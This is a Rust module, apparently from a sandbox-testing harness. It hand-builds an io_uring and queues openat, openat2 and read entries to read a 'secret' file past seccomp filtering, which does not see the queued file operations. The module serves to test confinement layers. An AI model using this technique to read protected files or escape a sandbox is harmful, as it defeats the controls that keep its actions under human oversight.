//! A ring takes file calls that no system-call filter sees: they are entries in shared memory, and
//! the filter is asked about the ring's own calls only.

use crate::raw;
use harness::escape::{Escape, Layer};
use harness::scene::Scene;
use std::ffi::CString;
use std::io;
use std::os::fd::{AsFd, AsRawFd, OwnedFd};
use std::os::unix::ffi::OsStrExt;
use std::sync::atomic::{AtomicU32, Ordering};

const RING: Escape = Escape {
    techniques: &["FR-IOURINGOPEN"],
    references: &[
        "https://github.com/moby/moby/pull/39415",
        "https://github.com/containerd/containerd/pull/9320",
        "https://man7.org/linux/man-pages/man7/io_uring.7.html",
    ],
    stops: &[Layer::Landlock, Layer::Seccomp, Layer::MountNamespace],
    // An unconfined process is refused a ring only where the host has switched rings off
    // (kernel.io_uring_disabled).
    absent: &[libc::ENOSYS, libc::EPERM],
    ..Escape::BLANK
};

pub(super) const ESCAPES: &[Escape] = &[
    Escape {
        id: "fs-read/io-uring",
        summary: "Open a secret and read it by entries of an io_uring",
        native: Some(|scene| read(scene, [OPENAT, libc::AT_FDCWD as u32], 0)),
        ..RING
    },
    Escape {
        id: "fs-read/io-uring.openat2",
        summary: "Open a secret by an openat2 entry of an io_uring and read it by another",
        native: Some(|scene| {
            read(scene, [OPENAT2, libc::AT_FDCWD as u32], OPEN_HOW.as_ptr() as u64)
        }),
        ..RING
    },
];

const OPENAT: u32 = 18;
const READ: u32 = 22;
const OPENAT2: u32 = 28;

/// `struct open_how`: flags (none is read-only), mode, resolve.
const OPEN_HOW: [u64; 3] = [0; 3];

/// The start of an entry is the operation and its descriptor; `offset` is the field that openat2
/// uses for a pointer.
fn read(scene: &Scene, open: [u32; 2], offset: u64) -> io::Result<Vec<u8>> {
    let path = CString::new(scene.clue("secret")?.as_bytes())?;
    let mut ring = Ring::new()?;
    let length = if offset == 0 { 0 } else { size_of_val(&OPEN_HOW) as u32 };
    let file = ring.perform(open, offset, path.as_ptr() as u64, length)?;
    let file = raw::adopt(file);
    let mut loot = vec![0; 4096];
    let (address, length) = (loot.as_mut_ptr() as u64, loot.len() as u32);
    let count = ring.perform([READ, file.as_raw_fd() as u32], 0, address, length)?;
    loot.truncate(usize::try_from(count).unwrap_or(0));
    Ok(loot)
}

/// A ring for one entry at a time, in words of the layout that io_uring_setup(2) describes.
struct Ring {
    descriptor: OwnedFd,
    /// `struct io_uring_params`; the kernel has filled in the places of the fields.
    parameters: [u32; 30],
    fields: &'static [AtomicU32],
    entries: &'static [AtomicU32],
}

impl Ring {
    fn new() -> io::Result<Self> {
        let mut parameters = [0_u32; 30];
        let pointer = parameters.as_mut_ptr() as usize;
        let descriptor = raw::descriptor(libc::SYS_io_uring_setup, [1, pointer, 0, 0, 0, 0])?;
        // Both rings share one map since Linux 5.4; the completions lie last, 16 bytes each.
        let length = (parameters[COMPLETIONS] + 16 * parameters[1]) as usize;
        let flags = libc::MAP_SHARED | libc::MAP_POPULATE;
        let fields = raw::map_words(descriptor.as_fd(), 0, length.max(4096), flags)?;
        let entries = raw::map_words(descriptor.as_fd(), 0x1000_0000, 4096, flags)?;
        Ok(Self { descriptor, parameters, fields, entries })
    }

    fn field(&self, parameter: usize, index: usize) -> &AtomicU32 {
        &self.fields[self.parameters[parameter] as usize / 4 + index]
    }

    /// Submits one entry, waits for it and returns its result.
    fn perform(&mut self, start: [u32; 2], offset: u64, address: u64, length: u32) -> io::Result<i32> {
        let [opcode, descriptor] = start;
        let halves = |word: u64| [word as u32, (word >> 32) as u32];
        let ([offset, offset_high], [address, address_high]) = (halves(offset), halves(address));
        let words = [opcode, descriptor, offset, offset_high, address, address_high, length];
        for (entry, word) in self.entries.iter().zip(words) {
            entry.store(word, Ordering::Relaxed);
        }
        self.field(SUBMISSION_TAIL, 0).fetch_add(1, Ordering::Release);
        let number = self.descriptor.as_raw_fd() as usize;
        const GET_EVENTS: usize = 1;
        raw::call(libc::SYS_io_uring_enter, [number, 1, 1, GET_EVENTS, 0, 0])?;
        let head = self.field(COMPLETION_HEAD, 0).fetch_add(1, Ordering::Release);
        let completion = (head & self.field(COMPLETION_MASK, 0).load(Ordering::Relaxed)) as usize;
        let result = self.field(COMPLETIONS, 4 * completion + 2).load(Ordering::Acquire) as i32;
        if result < 0 { Err(io::Error::from_raw_os_error(-result)) } else { Ok(result) }
    }
}

// Where the parameters name the places of the fields.
const SUBMISSION_TAIL: usize = 11;
const COMPLETION_HEAD: usize = 20;
const COMPLETION_MASK: usize = 22;
const COMPLETIONS: usize = 25;
